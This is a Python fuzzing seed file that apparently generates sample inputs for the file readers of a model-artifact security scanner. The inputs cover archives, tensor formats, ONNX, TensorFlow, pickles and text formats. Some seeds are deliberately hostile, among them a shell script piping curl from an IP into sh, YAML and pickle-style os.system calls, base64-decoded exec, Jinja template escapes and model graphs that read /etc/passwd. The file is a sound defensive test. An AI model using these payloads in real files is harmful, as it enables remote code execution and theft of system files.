"""A sound file or more for every reader: what fuzzing starts from."""

import bz2
import gzip
import io
import lzma
import pickle
import tarfile
import zipfile
import zlib

import zstandard

from harness import (
    make_checkpoint,
    make_hdf5,
    make_model_archives,
    make_onnx,
    make_onnx_graphs,
    make_tflite,
)
from harness import make_tensorflow as make_tf
from harness import make_tensors as make
from harness.make_archives import tarred, without_central, zipped
from harness.make_code import code_object
from harness.make_companions import chunk, jpeg, piece, pieces, png, segment
from harness.make_pickles import state_dict
from harness.make_sevenzip import LZMA2, sevenzip
from harness.seeds_of_models import MODELS
from pratique.artifacts.reader import Reader
from pratique.artifacts.readers.compiled_python import CompiledPythonReader
from pratique.artifacts.readers.gguf import GgufReader
from pratique.artifacts.readers.hdf5.reader import Hdf5Reader
from pratique.artifacts.readers.jinja_template import JinjaReader
from pratique.artifacts.readers.jpeg import JpegReader
from pratique.artifacts.readers.json_text import JsonReader
from pratique.artifacts.readers.native_program import NativeProgramReader
from pratique.artifacts.readers.npy import NpyReader
from pratique.artifacts.readers.onnx_model import OnnxReader
from pratique.artifacts.readers.onnx_text import OnnxTextReader
from pratique.artifacts.readers.openvino import OpenvinoReader
from pratique.artifacts.readers.pickle.reader import PickleReader
from pratique.artifacts.readers.plain_text import PlainTextReader
from pratique.artifacts.readers.png import PngReader
from pratique.artifacts.readers.python_source import PythonReader
from pratique.artifacts.readers.raw_tensor import RawTensorReader
from pratique.artifacts.readers.safetensors import SafetensorsReader
from pratique.artifacts.readers.sentencepiece import SentencePieceReader
from pratique.artifacts.readers.sevenzip.reader import SevenZipReader
from pratique.artifacts.readers.shell_script import ShellScriptReader
from pratique.artifacts.readers.streams import (
    Bzip2Reader,
    GzipReader,
    JoblibZfileReader,
    Lz4Reader,
    LzmaReader,
    XzReader,
    ZlibReader,
)
from pratique.artifacts.readers.tar.reader import TarReader
from pratique.artifacts.readers.tensorflow.checkpoint import CheckpointIndexReader
from pratique.artifacts.readers.tensorflow.lite import TfliteReader
from pratique.artifacts.readers.tensorflow.model import (
    FingerprintReader,
    KerasMetadataReader,
    TensorflowReader,
)
from pratique.artifacts.readers.tensorflow.text_graph import TextGraphReader
from pratique.artifacts.readers.text_front import TextFrontReader
from pratique.artifacts.readers.toml_text import TomlReader
from pratique.artifacts.readers.torch_legacy import TorchLegacyReader
from pratique.artifacts.readers.unopened import UnopenedReader
from pratique.artifacts.readers.yaml_text import YamlReader
from pratique.artifacts.readers.zip.reader import ZipReader
from pratique.artifacts.readers.zstd import ZstdReader

FILES = {"m/data.pkl": b"\x80\2}q\0.", "m/data/0": bytes(40), "m/code/a.py": b"x = 1\n" * 9}


def zip64() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z, z.open("big", "w", force_zip64=True) as f:
        f.write(b"x" * 50)
    return out.getvalue()


ARCHIVES: list[tuple[Reader, bytes]] = [
    (ZipReader(), zipped(FILES)),
    (SevenZipReader(), sevenzip(FILES)),
    (SevenZipReader(), sevenzip(FILES, method=LZMA2, pack_list=True)),
    (ZstdReader(), zstandard.ZstdCompressor().compress(b"some words of a text\n" * 40)),
    (ZipReader(), zipped(FILES, zipfile.ZIP_DEFLATED)),
    (ZipReader(), zipped(FILES, zipfile.ZIP_LZMA)),
    (ZipReader(), without_central(zipped(FILES, zipfile.ZIP_BZIP2), 1)),
    (ZipReader(), zip64()),
    (ZipReader(), zipped({"p-1.dist-info/RECORD": b"a.py,sha256=x,1\n", "a.py": b"x"})),
    (ZipReader(), make_model_archives.package({"a.py": b"x = 1\n"})),
    (ZipReader(), make_model_archives.exported(make_model_archives.program())),
    (TarReader(), tarred(FILES)),
    (TarReader(), make_model_archives.nemo("_target_: torch.nn.ReLU\n")),
    (TarReader(), tarred({"n" * 200: b"x", "é/y": b"z"}, tarfile.PAX_FORMAT)),
    (TarReader(), tarred({"n" * 200: b"x"}, tarfile.GNU_FORMAT)),
    (GzipReader(), gzip.compress(b"content " * 50, mtime=0) * 2),
    (Bzip2Reader(), bz2.compress(b"content " * 50) * 2),
    (XzReader(), lzma.compress(b"content " * 50) * 2),
    (LzmaReader(), lzma.compress(b"content " * 50, lzma.FORMAT_ALONE)),
    (ZlibReader(), zlib.compress(b"content " * 50)),
    (JoblibZfileReader(), b"ZF" + b"0x190".ljust(19) + zlib.compress(b"content " * 50)),
    (
        Lz4Reader(),
        bytes.fromhex("04224d184440a70a000000") + b"\x3fabc\x03\x00\x05\x20xy" + bytes(8),
    ),
    (UnopenedReader(), b"Rar!\x1a\x07\1\0" + bytes(40)),
]
SAFETENSORS = make.safetensors(
    [("a", "F32", [2], bytes(8)), ("b", "F4", [4], b"xy"), ("c", "I64", [1], bytes(8))], {"k": "v"}
)
GGUF = make.gguf(
    [("general.architecture", "llama"), ("n", [["a", "b"], ["c"]]), ("x", 0.5), ("y", True)],
    [("a", 2, [32], bytes(18)), ("b", 0, [2, 2], bytes(16))],
)
NPY = make.npy("{'descr': [('a', '<f4'), ('b', 'O')], 'fortran_order': True, 'shape': (1,)}", b"N.")
TENSORS: list[tuple[Reader, bytes]] = [
    (SafetensorsReader(), SAFETENSORS),
    (GgufReader(), GGUF),
    (GgufReader(), make.gguf([("a", "b")], [("t", 30, [2], b"abcd")], version=1, order=">")),
    (NpyReader(), NPY),
    (NativeProgramReader(), make.elf()),
    (NativeProgramReader(), make.pe()),
]


TEXTS = [
    b'{"model_type": "x", "chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}"}',
    b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!ls\\n", "import os"]}]}',
    b"a: !!python/object/apply:os.system [x]\nb: &x {c: *x}\n_target_: os.system\n",
    b"[tool.x]\nkey = [1, 2]\n",
    b"import os as o, base64\nexec(base64.b64decode('eA=='))\ngetattr(o, 'a' + 'b')(x=1)\n",
    b"{% set x = '_' * 2 %}{{ a[x ~ 'class'] | attr('b') }}{% if 'a' in m.content %}b{% endif %}",
    b"---\na: 1\n---\n# Title\n{{ x }}\n",
    "\ufefftext \u202e \U000e0041".encode(),
    b'{"graph_module": {}, "inputs": [], "target": "torch.os.system", "s": "[1, {}]"}',
    b'{"__loader__": "MethodNode", "__module__": "a", "__class__": "b", "content": {"func": "c"}}',
    b"a: &x os.system\nb:\n  _target_: *x\nc: ${eval:'os.system()'}\n",
]

ONNX = make_onnx.model(
    make_onnx.graph(
        [make_onnx.node("Relu"), make_onnx.node("If", ("c",), make_onnx.branch("then"))],
        [
            make_onnx.tensor("w", [("location", "w.bin"), ("x", "y")]),
            make_onnx.tensor("v", raw=b"1234"),
        ],
    ),
    make_onnx.part(14, make_onnx.part(1, "k") + make_onnx.part(2, "v" * 300)),
)
ONNX_TEXT = b"""ir_version: 8
graph { node { input: "x" output: 'y' op_type: "Add" } initializer < dims: [4] data_type: 1
  external_data { key: "location" value: "w.bin" } > }
"""
ONNX_JSON = (
    b'{"irVersion": "8", "graph": {"node": [{"opType": "Add", "input": ["x"]}], "name": "g"}}'
)
OPENVINO = b"""<?xml version="1.0"?>
<net name="n" version="11"><layers><layer id="0" name="a" type="Const" version="opset1">
<data element_type="f32" shape="4" offset="0" size="16" /></layer></layers><edges /></net>
"""
TENSORFLOW = make_tf.model(
    [*make_tf.HONEST, make_tf.const("s", "text " * 70, b"\x80\4]."), make_tf.call("f", ("s",))],
    make_tf.init("s"),
    make_tf.asset("s:0", "vocab.txt"),
    functions=[make_tf.function("f", [make_tf.node("ReadFile", "r", ("x",))], ["x"])],
)
TEXT_GRAPH = b"""# a comment
meta_graphs { meta_info_def < tags: ["serve", 'x'] > graph_def { node { name: "p" op: "Const"
  attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/etc/" "pass\\167d" } } } }
  node { name: "r" op: "ReadFile" input: "p" } library { function { signature { name: "f" } } } } }
"""
CHECKPOINT = make_checkpoint.index(
    a=make_checkpoint.entry(make_checkpoint.STRING, [], 0, 8),
    w=make_checkpoint.entry(make_checkpoint.FLOAT, [2, 3], 8, 24),
)
TORCH_MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
TORCH_LEGACY = (
    TORCH_MAGIC
    + b"\x80\x02M\xe9\x03.\x80\x02}."
    + state_dict(("w", "1", "FloatStorage", 2))
    + b"\x80\x02](U\x011e."
    + b"\x02"
    + bytes(15)
)
SEEDS: list[tuple[Reader, bytes]] = [
    *ARCHIVES,
    *MODELS,
    *TENSORS,
    (CheckpointIndexReader(), CHECKPOINT),
    (CheckpointIndexReader(), make_checkpoint.table({b"": b"x", b"k": b"v" * 300}, snappy=True)),
    (CompiledPythonReader(), code_object(16)),
    (CompiledPythonReader(), code_object(0)),
    (Hdf5Reader(), make_hdf5.keras('{"class_name": "Model", "config": {}}')),
    (Hdf5Reader(), make_hdf5.weights(make_hdf5.external_link("e", "x.h5", "/d"))),
    (Hdf5Reader(), make_hdf5.newer()),
    (JinjaReader(), TEXTS[5]),
    (JpegReader(), jpeg()),
    (JpegReader(), jpeg(segment(0xFE, b"words"), b"\xff\xff" + segment(0xE1, b"Exif")[1:])),
    (JsonReader(), TEXTS[0]),
    (JsonReader(), TEXTS[1]),
    (JsonReader(), TEXTS[8]),
    (JsonReader(), TEXTS[9]),
    (JsonReader(), b'{"a": 1}\n{"a": [NaN, 1e9, "\\u00e9"]}\n'),
    (FingerprintReader(), make_tf.fingerprint()),
    (KerasMetadataReader(), make_tf.keras_metadata('{"class_name": "A"}', "{}")),
    (OnnxReader(), make_onnx.model()),
    (OnnxReader(), ONNX),
    (OnnxReader(), make_onnx_graphs.patch_in_function()),
    (OnnxTextReader(), ONNX_TEXT),
    (OnnxTextReader(), ONNX_JSON),
    (OpenvinoReader(), OPENVINO),
    (PickleReader(), pickle.dumps({"a": [1, "b", (2.5, None)], "c": {3}}, 4)),
    (PickleReader(), pickle.dumps({"a": [1, "b", (2.5, None)]}, 0)),
    (PlainTextReader(), TEXTS[6]),
    (TextFrontReader(), b"#!/bin/sh\ntouch /tmp/canary\nexit 0\n" + bytes(range(99))),
    (PlainTextReader(), TEXTS[7]),
    (PngReader(), png()),
    (PngReader(), png(zlib.compress(b"x"), chunk(b"tEXt", b"Comment\0words"))),
    (PythonReader(), TEXTS[4]),
    (RawTensorReader(), bytes(range(24))),
    (SentencePieceReader(), pieces()),
    (SentencePieceReader(), pieces(piece(b"long " * 80))),
    (ShellScriptReader(), b"#!/bin/sh\nset -e\ncurl -s http://192.0.2.1/a \\\n  | sh\n# done\n"),
    (ShellScriptReader(), b"FROM debian:12\nRUN apt-get update\n"),
    (TensorflowReader(), TENSORFLOW),
    (TensorflowReader(), make_tf.metagraph(make_tf.graph(make_tf.HONEST))),
    (TensorflowReader(), make_tf.graph([], [make_tf.function("f", make_tf.HONEST)])),
    (TextGraphReader(), TEXT_GRAPH),
    (TfliteReader(), make_tflite.model(["FlexReadFile", "Own"], ["/etc/passwd"], b"file:///x")),
    (TomlReader(), TEXTS[3]),
    (TorchLegacyReader(), TORCH_LEGACY),
    (YamlReader(), TEXTS[2]),
    (YamlReader(), TEXTS[10]),
]
